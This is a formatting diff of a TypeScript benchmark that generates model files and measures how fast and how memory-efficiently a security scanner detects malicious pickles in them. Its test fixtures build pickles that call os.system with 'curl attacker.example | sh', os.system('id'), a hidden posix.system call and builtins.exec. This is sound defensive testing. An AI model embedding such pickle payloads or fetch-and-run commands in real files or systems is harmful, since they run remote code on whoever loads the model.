@@ -28,7 +28,8 @@ function writeFile(path: string, parts: (Buffer | number)[]) {
   const filler = Buffer.alloc(8 * MiB, 0x3c);
   try {
     for (const p of parts)
-      if (typeof p === "number") for (let left = p; left > 0; left -= filler.length) writeSync(fd, filler, 0, Math.min(left, filler.length));
+      if (typeof p === "number")
+        for (let left = p; left > 0; left -= filler.length) writeSync(fd, filler, 0, Math.min(left, filler.length));
       else writeSync(fd, p);
   } finally {
     closeSync(fd);
@@ -36,7 +37,9 @@ function writeFile(path: string, parts: (Buffer | number)[]) {
 }
 
 function safetensorsHeader(bytes: number): Buffer {
-  const header = Buffer.from(JSON.stringify({ __metadata__: { format: "pt" }, weight: { dtype: "F32", shape: [bytes / 4], data_offsets: [0, bytes] } }));
+  const header = Buffer.from(
+    JSON.stringify({ __metadata__: { format: "pt" }, weight: { dtype: "F32", shape: [bytes / 4], data_offsets: [0, bytes] } }),
+  );
   const len = Buffer.alloc(8);
   len.writeBigUInt64LE(BigInt(header.length));
   return Buffer.concat([len, header]);
@@ -65,7 +68,10 @@ function torchCheckpoint(path: string, bytes: number, pickle: Buffer) {
   const pkl = header(0x04034b50, "archive/data.pkl", pickle.length, crc32(pickle));
   const tensorAt = pkl.length + pickle.length;
   const tensor = header(0x04034b50, "archive/data/0", bytes, 0);
-  const cd = Buffer.concat([header(0x02014b50, "archive/data.pkl", pickle.length, crc32(pickle), 0), header(0x02014b50, "archive/data/0", bytes, 0, tensorAt)]);
+  const cd = Buffer.concat([
+    header(0x02014b50, "archive/data.pkl", pickle.length, crc32(pickle), 0),
+    header(0x02014b50, "archive/data/0", bytes, 0, tensorAt),
+  ]);
   const end = Buffer.alloc(22);
   end.writeUInt32LE(0x06054b50, 0);
   end.writeUInt16LE(2, 8);
@@ -81,16 +87,46 @@ function generate(root: string): { files: number; bytes: number; malicious: numb
   writeFile(join(root, "llm/tiny.gguf"), [Buffer.from("GGUF\x03\x00\x00\x00", "latin1"), 16 * MiB]);
   torchCheckpoint(join(root, "vision/checkpoint.pt"), 64 * MiB, torchStateDict());
   // a legacy raw pickle (torch < 1.6, pickle.dump of arrays): one 24 MiB bytes value inside the opcode stream
-  const blob = new PickleWriter().proto(4).raw(0x8e, Buffer.from(Uint32Array.of(24 * MiB, 0).buffer)).bytes();
-  writeFile(join(root, "legacy/embeddings.pkl"), [blob, 24 * MiB, Buffer.from([0x30]), callPickle("collections", "OrderedDict", "x", 4).subarray(2)]);
+  const blob = new PickleWriter()
+    .proto(4)
+    .raw(0x8e, Buffer.from(Uint32Array.of(24 * MiB, 0).buffer))
+    .bytes();
+  writeFile(join(root, "legacy/embeddings.pkl"), [
+    blob,
+    24 * MiB,
+    Buffer.from([0x30]),
+    callPickle("collections", "OrderedDict", "x", 4).subarray(2),
+  ]);
   writeFile(join(root, "data/features.npy"), [npy("<f4", "(4194304,)", Buffer.alloc(0)), 16 * MiB]);
   // a TorchServe archive whose compressed model.pt (8 MiB) must be inflated to a temporary file to be read; its
   // tensor is random, as trained weights are near enough (a tensor of zeros compresses a thousandfold, and an
   // archive that would inflate past the ratio limit is reported unscanned)
-  const inner = zipArchive([{ name: "archive/data.pkl", data: callPickle("os", "system", "curl attacker.example | sh") }, { name: "archive/data/0", data: randomBytes(8 * MiB) }]);
-  writeFile(join(root, "serving/model-store/classifier.mar"), [zipArchive([{ name: "MAR-INF/MANIFEST.json", data: Buffer.from("{}") }, { name: "model.pt", data: inner, method: "deflate" }])]);
+  const inner = zipArchive([
+    { name: "archive/data.pkl", data: callPickle("os", "system", "curl attacker.example | sh") },
+    { name: "archive/data/0", data: randomBytes(8 * MiB) },
+  ]);
+  writeFile(join(root, "serving/model-store/classifier.mar"), [
+    zipArchive([
+      { name: "MAR-INF/MANIFEST.json", data: Buffer.from("{}") },
+      { name: "model.pt", data: inner, method: "deflate" },
+    ]),
+  ]);
   writeFile(join(root, "legacy/evil.pkl"), [callPickle("os", "system", "id")]);
-  writeFile(join(root, "legacy/hidden.pkl"), [new PickleWriter().proto(4).shortUnicode("posix").memoize().pop().shortUnicode("system").memoize().pop().binGet(0).binGet(1).stackGlobal().stop().bytes()]);
+  writeFile(join(root, "legacy/hidden.pkl"), [
+    new PickleWriter()
+      .proto(4)
+      .shortUnicode("posix")
+      .memoize()
+      .pop()
+      .shortUnicode("system")
+      .memoize()
+      .pop()
+      .binGet(0)
+      .binGet(1)
+      .stackGlobal()
+      .stop()
+      .bytes(),
+  ]);
   writeFile(join(root, "legacy/second.pkl"), [torchStateDict(), callPickle("builtins", "exec", "x", 4)]);
   const all = readdirSync(root, { recursive: true, withFileTypes: true }).filter((e) => e.isFile());
   return { files: all.length, bytes: all.reduce((a, e) => a + statSync(join(e.parentPath, e.name)).size, 0), malicious: 4 };
@@ -103,7 +139,14 @@ async function child(root: string) {
   const r = await scanDirectory(root, { checks: rulebook.checks });
   const ms = performance.now() - started;
   process.stdout.write(
-    JSON.stringify({ ms, maxRss: process.resourceUsage().maxRSS * 1024, findings: r.findings.map((f) => [f.path, f.ruleId]), errors: r.errors, artifacts: r.stats.artifacts, skipped: r.stats.skipped }),
+    JSON.stringify({
+      ms,
+      maxRss: process.resourceUsage().maxRSS * 1024,
+      findings: r.findings.map((f) => [f.path, f.ruleId]),
+      errors: r.errors,
+      artifacts: r.stats.artifacts,
+      skipped: r.stats.skipped,
+    }),
   );
 }
 
@@ -113,19 +156,35 @@ async function main() {
   try {
     const t0 = performance.now();
     const g = generate(root);
-    console.log(`generated ${g.files} files, ${(g.bytes / 1024 ** 3).toFixed(2)} GiB in ${((performance.now() - t0) / 1000).toFixed(1)} s under ${root}`);
+    console.log(
+      `generated ${g.files} files, ${(g.bytes / 1024 ** 3).toFixed(2)} GiB in ${((performance.now() - t0) / 1000).toFixed(1)} s under ${root}`,
+    );
     const runs = [];
     for (let i = 0; i < 3; i++) {
-      const out = spawnSync(process.execPath, ["--import", "tsx", fileURLToPath(import.meta.url), "--scan", root], { encoding: "utf8", maxBuffer: 64 * MiB });
+      const out = spawnSync(process.execPath, ["--import", "tsx", fileURLToPath(import.meta.url), "--scan", root], {
+        encoding: "utf8",
+        maxBuffer: 64 * MiB,
+      });
       if (out.status !== 0) throw new Error(`scan failed: ${out.stderr}`);
-      runs.push(JSON.parse(out.stdout) as { ms: number; maxRss: number; findings: [string, string][]; errors: unknown[]; artifacts: { files: number; bytesRead: number; formats: Record<string, number>; safe: number; pickles: number } });
+      runs.push(
+        JSON.parse(out.stdout) as {
+          ms: number;
+          maxRss: number;
+          findings: [string, string][];
+          errors: unknown[];
+          artifacts: { files: number; bytesRead: number; formats: Record<string, number>; safe: number; pickles: number };
+        },
+      );
     }
     const last = runs.at(-1)!;
     const times = runs.map((r) => r.ms).sort((a, b) => a - b);
     const rss = Math.max(...runs.map((r) => r.maxRss));
     console.log(JSON.stringify({ times, rss, findings: last.findings, errors: last.errors, artifacts: last.artifacts }, null, 2));
     const commit = execFileSync("git", ["rev-parse", "--short", "HEAD"], { encoding: "utf8" }).trim();
-    const ok = rss < MAX_RSS && last.errors.length === 0 && last.findings.filter(([, id]) => id.startsWith("ml-serving.artifact.")).length === g.malicious;
+    const ok =
+      rss < MAX_RSS &&
+      last.errors.length === 0 &&
+      last.findings.filter(([, id]) => id.startsWith("ml-serving.artifact.")).length === g.malicious;
     writeSection(
       "artifacts",
       `## Model files (\`npm run bench:artifacts\`)
@@ -141,7 +200,9 @@ scanned with the whole rulebook in a fresh process, 3 runs:
 |---|---|
 | scan time (median of 3) | ${(times[1]! / 1000).toFixed(2)} s |
 | peak RSS (max of 3, whole process) | ${(rss / MiB).toFixed(0)} MB (limit ${MAX_RSS / MiB} MB) |
-| model files read | ${last.artifacts.files} (${Object.entries(last.artifacts.formats).map(([f, n]) => `${n} ${f}`).join(", ")}) |
+| model files read | ${last.artifacts.files} (${Object.entries(last.artifacts.formats)
+        .map(([f, n]) => `${n} ${f}`)
+        .join(", ")}) |
 | bytes read from them | ${(last.artifacts.bytesRead / MiB).toFixed(1)} MiB of ${(g.bytes / MiB).toFixed(0)} MiB |
 | findings | ${last.findings.length} (${[...new Set(last.findings.map(([p]) => p))].join(", ")}) |
 | errors | ${last.errors.length} |
@@ -152,7 +213,9 @@ skipped a chunk at a time; the archive's nested checkpoint is inflated to a temp
 The files are generated under /tmp at bench time and removed afterwards.`,
     );
     if (!ok) {
-      console.error(`FAILED: peak RSS ${(rss / MiB).toFixed(0)} MB (limit ${MAX_RSS / MiB}), ${last.errors.length} errors, findings ${JSON.stringify(last.findings)}`);
+      console.error(
+        `FAILED: peak RSS ${(rss / MiB).toFixed(0)} MB (limit ${MAX_RSS / MiB}), ${last.errors.length} errors, findings ${JSON.stringify(last.findings)}`,
+      );
       process.exitCode = 1;
     }
   } finally {
